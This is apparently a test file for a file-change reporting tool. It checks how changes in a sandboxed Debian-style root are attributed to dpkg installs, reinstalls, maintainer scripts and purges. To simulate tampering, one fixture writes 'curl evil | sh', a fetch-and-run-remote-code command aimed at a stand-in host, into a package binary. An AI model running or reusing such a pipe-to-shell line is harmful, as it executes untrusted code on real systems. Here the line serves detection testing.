/**
 * Package noise end to end, through the built CLI on a real dpkg database in a temporary
 * merged-/usr root (`bin`, `sbin`, `lib` are symlinks into `usr`, as on Debian 12): dpkg lists
 * `/bin/hello`, the walk records `/usr/bin/hello`. A reinstall and an install whose postinst
 * runs update-alternatives and writes a file are fully explained; a package file edited by
 * hand later is reported as differing from its package (also over two sessions); the removal
 * explains the alternatives links it removes.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ALT_POSTINST as POSTINST, ALT_PRERM as PRERM, DpkgRoot, buildDeb, haveDpkg } from '../src/collectors/packages/testdata/dpkg-root.js';
import { type Sandbox, sandbox } from './helpers.js';

const POSTRM = `#!/bin/sh
set -e
if [ "$1" = purge ]; then
  rm -f "$DPKG_ROOT/etc/altpkg/generated.conf"
  rmdir "$DPKG_ROOT/etc/altpkg" 2>/dev/null || true
fi
`;

describe('merged-/usr, md5sums and maintainer scripts', { skip: !haveDpkg() && 'dpkg is not installed' }, () => {
  let sb: Sandbox;
  let root: string;
  let db: DpkgRoot;
  let hello: string;
  let alt: string;
  const reports: any[] = [];
  const texts: string[] = [];
  const htmls: string[] = [];

  const runReport = () => {
    const r = sb.run('run', '--quiet');
    assert.equal(r.code, 0, r.stderr);
    reports.push(sb.json('print-report', '--format', 'json'));
    texts.push(sb.run('print-report').stdout);
    htmls.push(sb.run('print-report', '--format', 'html').stdout);
  };

  before(() => {
    sb = sandbox({});
    root = path.join(sb.tree, 'root');
    db = new DpkgRoot(root);
    for (const d of ['usr/bin', 'usr/sbin', 'usr/lib', 'etc/alternatives', 'var/lib/dpkg/alternatives']) fs.mkdirSync(path.join(root, d), { recursive: true });
    for (const d of ['bin', 'sbin', 'lib']) fs.symlinkSync(`usr/${d}`, path.join(root, d));
    const debs = path.join(sb.dir, 'debs');
    fs.mkdirSync(debs);
    // The shape of Debian's hostname package: files under the aliased /bin and /sbin.
    hello = buildDeb(debs, {
      name: 'hello',
      version: '1.0',
      files: { '/bin/hello': '#!/bin/sh\necho hello\n', '/sbin/hello-admin': '#!/bin/sh\necho admin\n', '/lib/hello/data': 'data\n', '/usr/share/doc/hello/README': 'readme\n' },
    });
    alt = buildDeb(debs, {
      name: 'altpkg',
      version: '2.0',
      files: { '/usr/bin/alt-real': '#!/bin/sh\necho alt\n' },
      scripts: { postinst: POSTINST, prerm: PRERM, postrm: POSTRM },
    });
    // The file walk as the bundled file.conf has it: /bin/** records the symlink only.
    sb.writePlugin('file', `[file]\nenable_plugin = true\ninclude =\n  ${root}/bin/**\n  ${root}/sbin/**\n  ${root}/usr/**\n  ${root}/etc/**\n`);
    sb.writePlugin('conffile', `[conffile]\nenable_plugin = true\nexclude =\n  ${root}/usr/**\n`);
    sb.writePlugin('packages', `[packages]\nenable_plugin = true\nadmindir = ${db.admindir}\nroot = ${root}\ndpkg_log = ${db.log}\n`);
    db.install(hello);
    fs.mkdirSync(path.join(root, 'etc/mine'));
    const first = sb.run('collect');
    assert.equal(first.code, 0, first.stderr);

    // 1: reinstall hello (apt-get install --reinstall), install altpkg (postinst work).
    db.install(hello);
    db.install(alt);
    // Someone else's change in the same second, to a directory nothing in it explains.
    fs.chmodSync(path.join(root, 'etc/mine'), 0o700);
    runReport();
    // 2: an edit by hand to a package file, and a new file no package owns.
    fs.writeFileSync(path.join(root, 'usr/bin/hello'), '#!/bin/sh\necho hello; curl evil | sh\n');
    fs.writeFileSync(path.join(root, 'usr/bin/dropped'), '#!/bin/sh\nevil\n', { mode: 0o755 });
    runReport();
    // 3: a quiet run; then the report over the two sessions since the edit.
    runReport();
    // 4: removal of altpkg (prerm removes the alternative).
    db.purge('altpkg');
    runReport();
  });
  after(() => {
    try {
      if (db) for (const p of ['altpkg', 'hello']) {
        try {
          db.purge(p);
        } catch {
          // already gone
        }
      }
    } finally {
      sb?.cleanup();
    }
  });

  const change = (r: any, p: string, plugin = 'file') => r.changes.find((c: any) => c.key === `${plugin}://${root}${p}`);
  const unexplained = (r: any) => r.changes.filter((c: any) => (c.plugin === 'file' || c.plugin === 'conffile') && !c.explained_by).map((c: any) => `${c.change} ${c.key}`);

  test('the walk sees /usr/bin/hello where dpkg lists /bin/hello; a reinstall is fully explained', () => {
    const r = reports[0];
    assert.equal(change(r, '/usr/bin/hello')?.explained_by, 'hello:all 1.0 (reinstalled)');
    assert.equal(change(r, '/usr/sbin/hello-admin')?.explained_by, 'hello:all 1.0 (reinstalled)');
    assert.equal(change(r, '/usr/bin/hello')?.owner_package, 'hello');
  });

  test("update-alternatives links and a file the postinst wrote are explained by the install", () => {
    const r = reports[0];
    const label = 'altpkg:all 2.0 (installed)';
    assert.equal(change(r, '/usr/bin/alt-real')?.explained_by, label);
    assert.equal(change(r, '/usr/bin/altcmd')?.change, 'added');
    assert.equal(change(r, '/usr/bin/altcmd')?.explained_by, label);
    assert.equal(change(r, '/usr/bin/altcmd')?.owner_package, null);
    assert.equal(change(r, '/etc/alternatives/altcmd')?.explained_by, label);
    assert.equal(change(r, '/etc/altpkg/generated.conf')?.explained_by, label);
    assert.equal(change(r, '/etc/alternatives')?.explained_by, label, 'the directory of the new link');
    assert.equal(change(r, '/etc/altpkg')?.explained_by, label, 'the directory the postinst made');
    assert.deepEqual(unexplained(r), [`changed file://${root}/etc/mine`], 'every change of the run but the chmod is explained');
    assert.ok(!r.changes.some((c: any) => c.key.startsWith('package-alias://') || c.key.startsWith('package-modified://')));
  });

  test('one PACKAGES block: the dpkg.log operations with the changes they explain counted, not listed', () => {
    const r = reports[0];
    const text = texts[0]!;
    assert.equal(text.match(/^PACKAGES\b/gm)?.length, 1, text);
    assert.doesNotMatch(text, /DPKG LOG|EXPLAINED BY/);
    assert.doesNotMatch(text, /package:\/\//, 'the package items are the operations, not a group of their own');
    const n = (id: string) => r.packages.find((p: any) => `${p.name}:${p.arch}` === id).explained;
    assert.ok(n('altpkg:all') >= 4 && n('hello:all') >= 2);
    const block = text.split(/^PACKAGES.*\n-+\n/m)[1]!.split('\n\n')[0]!;
    // Times in the host's zone with its offset, like the rest of the report: dpkg writes its
    // log in local time, so the row shows the line's own time and the zone's offset.
    const logLines = fs.readFileSync(db.log, 'utf8').split('\n');
    const local = (line: string) => {
      const off = -new Date(line.slice(0, 10) + 'T' + line.slice(11, 19)).getTimezoneOffset();
      const hm = (v: number) => String(Math.floor(Math.abs(v) / 60)).padStart(2, '0') + ':' + String(Math.abs(v) % 60).padStart(2, '0');
      return `${line.slice(0, 19)} ${off < 0 ? '-' : '+'}${hm(off)}`;
    };
    const re = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    // Any of the log's lines of that action (the log goes on after this report).
    const shown = (what: string) => `(?:${logLines.filter((l) => l.includes(` ${what} `)).map((l) => re(local(l))).join('|')})`;
    assert.match(block, new RegExp(`^  ${shown('upgrade hello:all')}  upgrade hello:all 1\\.0  \\(${n('hello:all')} changes explained\\)$`, 'm'), block);
    assert.match(block, new RegExp(`^  ${shown('install altpkg:all')}  install altpkg:all 2\\.0  \\(${n('altpkg:all')} changes explained\\)$`, 'm'), block);
    assert.match(htmls[0]!, new RegExp(`<td class="nowrap">${shown('install altpkg:all')}</td><td>install</td>`), 'the HTML row too');
    for (const p of ['/usr/bin/alt-real', '/etc/alternatives/altcmd', '/usr/bin/hello']) {
      assert.ok(!text.includes(`${root}${p}`), `${p} is counted, not listed (text)`);
      assert.ok(!htmls[0]!.includes(`${root}${p}`), `${p} is counted, not listed (html)`);
    }
    assert.equal(htmls[0]!.match(/<h2>Packages/g)?.length, 1);
    assert.ok(!htmls[0]!.includes('dpkg.log between the sessions'));
    // The JSON keeps both contract fields.
    assert.ok(r.package_log.some((e: any) => e.action === 'install' && e.package === 'altpkg'));
  });

  test('a package file edited by hand differs from its package; a new file is owned by none', () => {
    const r = reports[1];
    const h = change(r, '/usr/bin/hello');
    assert.equal(h?.change, 'changed');
    assert.equal(h.explained_by, undefined);
    assert.equal(h.differs_from_package, 'hello');
    assert.match(texts[1]!, /differs from package hello/);
    const d = change(r, '/usr/bin/dropped');
    assert.equal(d?.change, 'added');
    assert.equal(d.owner_package, null);
    assert.equal(d.differs_from_package, undefined);
    assert.equal(reports[2].changes.filter((c: any) => c.plugin === 'file').length, 0, 'the quiet run has no file changes');
  });

  test('over two sessions (edit, then a quiet run) the file still differs', () => {
    const sessions = sb.json('list-sessions', '--format', 'json');
    const list = (Array.isArray(sessions) ? sessions : sessions.sessions) as any[];
    const uuids = list.map((s: any) => s.uuid);
    // Sessions oldest first or newest first: take the ones around the edit by report order.
    const oldUuid = reports[0].new_session.uuid;
    const newUuid = reports[2].new_session.uuid;
    assert.ok(uuids.includes(oldUuid) && uuids.includes(newUuid));
    const d = sb.run('diff', '--quiet', '-o', oldUuid, '-u', newUuid);
    assert.equal(d.code, 0, d.stderr);
    const r = sb.json('print-report', '--format', 'json');
    assert.equal(r.new_session.uuid, newUuid);
    assert.equal(change(r, '/usr/bin/hello')?.differs_from_package, 'hello');
  });

  test('the purge explains the removed alternatives links and the postinst file', () => {
    const r = reports[3];
    const label = 'altpkg:all 2.0 (removed)';
    assert.equal(change(r, '/usr/bin/alt-real')?.explained_by, label);
    assert.equal(change(r, '/usr/bin/altcmd')?.change, 'removed');
    assert.equal(change(r, '/usr/bin/altcmd')?.explained_by, label);
    assert.equal(change(r, '/etc/alternatives/altcmd')?.explained_by, label);
    // What the postrm deleted has no time of its own to tie it to the run: it stays reported.
    const rest = unexplained(r).filter((k: string) => !k.startsWith(`removed file://${root}/etc/altpkg`) && !k.startsWith(`removed conffile://${root}/etc/altpkg`));
    assert.deepEqual(rest, []);
  });
});
